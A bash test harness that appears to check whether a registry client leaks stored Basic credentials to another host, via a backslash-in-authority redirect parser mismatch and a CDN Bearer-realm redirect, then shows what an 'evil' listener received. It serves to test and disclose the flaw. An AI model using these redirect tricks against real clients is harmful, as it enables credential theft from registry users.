#!/bin/bash
# Credentials for the registry (Basic, from REGISTRY_AUTH_FILE) reaching another host.
#  redirect-bslash: the registry redirects a blob to http://127.0.0.1:EVIL\@127.0.0.1:REG/...;
#                   host_of() sees the registry's host and keeps Authorization, the URL parser
#                   (ureq/url, WHATWG: '\' ends the authority) connects to EVIL.
#  cdn-bearer:      the registry redirects a blob to a CDN on another host (Authorization dropped,
#                   as it should be); the CDN answers 401 Bearer realm=http://CDN/token, and envc
#                   sends the registry's Basic password to the CDN's realm.
# Prints what the evil listener received.
set -u
. "$(dirname "$0")/env.sh"
mode=$1 port=$2 evil=$3
printf '{"auths":{"127.0.0.1:%s":{"auth":"%s"}}}' "$port" "$(printf 'alice:s3cret-password' | base64)" > "$RT/auth-$mode.json"
export REGISTRY_AUTH_FILE=$RT/auth-$mode.json HPORT=$port
"$HERE/hostile_registry.sh" "$mode" --evil "$evil" | head -3 | cut -c1-300
echo "-- what reached the evil host (alice:s3cret-password is $(printf 'alice:s3cret-password' | base64)):"
grep -a EVIL "$RT/hostile-$mode.log" | sort | uniq -c | head
